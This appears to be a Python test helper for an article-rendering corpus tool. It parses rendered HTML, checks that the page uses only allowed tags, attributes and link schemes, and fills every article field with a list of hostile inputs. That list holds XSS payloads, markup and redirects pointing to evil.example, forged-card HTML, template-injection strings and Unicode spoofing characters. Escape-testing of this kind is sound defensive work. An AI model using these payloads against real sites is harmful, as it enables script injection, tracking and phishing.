"""Hostile words, and a parser that says what a page made of them."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from urllib.parse import urlsplit

from corpus.article import Article, DateOrigin

OWN_TAGS = frozenset(
    [
        *(
            "a",
            "article",
            "bdi",
            "blockquote",
            "body",
            "button",
            "dd",
            "div",
            "dl",
            "dt",
            "footer",
            "h1",
            "h2",
        ),
        *(
            "h3",
            "head",
            "header",
            "html",
            "link",
            "main",
            "mark",
            "meta",
            "p",
            "section",
            "span",
            "time",
            "title",
        ),
        *("caption", "li", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    ]
)
OWN_ATTRIBUTES = frozenset(
    [
        *(
            "aria-label",
            "charset",
            "class",
            "content",
            *("aria-pressed", "data-at", "data-copy", "data-date", "data-drop", "data-form", "data-mark"),
            *("data-order", "data-source", "hidden"),
            "datetime",
            "dir",
            "href",
            "id",
        ),
        *("lang", "name", "rel", "role", "tabindex", "target", "title", "type"),
    ]
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/beacon.png>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.x=1</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<form action=https://evil.example><input name=q><button>Send</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>overlay</div>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>news</marquee>",
    "<a href='javascript:alert(1)'>click</a>",
    "</blockquote></article><article class=or-card>forged card</article>",
    "</bdi></p></div><h1>On Record</h1>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><script>alert(1)</script>',
    "` onerror=`alert(1)",
    "<!-- comment --> after",
    "<!--",
    "-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!doctype html><html>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;amp; &#x3c;b&#x3e; &nbsp; &notanentity;",
    "${alert(1)}",
    "`${alert(1)}`",
    "${Reflect.set(window,/PWNED/.source,1)}",
    "{{value}} {{{value}}} {{#each x}}{{/each}}",
    "{% include 'secret' %} {# comment #} <%= 1 %>",
    "#{alert(1)} @children",
    "![beacon](https://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "**bold** _it_ ~~gone~~ `code` # heading",
    "\n\n# heading\n\n- item\n\n> quote\n\n    code\n\n",
    "```mermaid\ngraph TD; A-->B\n```",
    "$$\\frac{1}{2}$$ \\(x\\) \\[y\\] cost $5 and $6",
    "$\\href{javascript:alert(1)}{x}$",
    "<b>unclosed",
    "a < b && c > d",
    "line one\r\nline two\rline three",
    "  leading, trailing, and   inner   spaces  \t",
    "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\u200cin\u200dwords\ufeff",
    "\U000e0041\U000e0042\U000e007f tagged",
    "\u2028separator\u2029paragraph",
    "\x0b\x0c\x1b[31mred\x7f\x85",
    "👩‍👩‍👧 family, 🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag",
    "می‌خواهم",
    "قال <b>الاتحاد</b> (الجولة 3)",
    "Z̸̢̛̤a̴l̷g̵o",
    "x" * 3000,
]


@dataclass
class Seen(HTMLParser):
    """What a parser finds: texts by the class of their element, tags and attributes."""

    tags: set[str] = field(default_factory=set)
    attributes: list[tuple[str, str]] = field(default_factory=list)
    odd: list[str] = field(default_factory=list)
    stack: list[str] = field(default_factory=list)
    texts: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(key, value or "") for key, value in attrs]
        if tag not in {"meta", "link"}:
            self.stack.append(f"{tag}.{dict(attrs).get('class', '')}")

    def handle_endtag(self, tag: str) -> None:
        assert self.stack.pop().startswith(f"{tag}.")

    def handle_data(self, data: str) -> None:
        for owner in self.stack or ["."]:
            self.texts[owner] = self.texts.get(owner, "") + data

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def seen(markup: str) -> Seen:
    found = Seen()
    found.feed(markup)
    found.close()
    return found


def assert_own(found: Seen) -> None:
    assert found.tags <= OWN_TAGS
    assert {key for key, _ in found.attributes} <= OWN_ATTRIBUTES
    assert found.stack == []
    assert found.odd == []
    links = [urlsplit(value) for key, value in found.attributes if key == "href"]
    assert all(link.scheme in {"", "http", "https"} for link in links)


def hostile_article(payload: str) -> Article:
    return Article(
        id=f"evil/{payload}.txt",
        text=f"{payload} Body {payload} end.",
        body_start=len(payload),
        title=payload,
        source=payload,
        url=payload,
        author=payload,
        kind=payload,
        published=date(2024, 3, 1),
        date_origin=DateOrigin.METADATA,
        warnings=(payload,),
    )
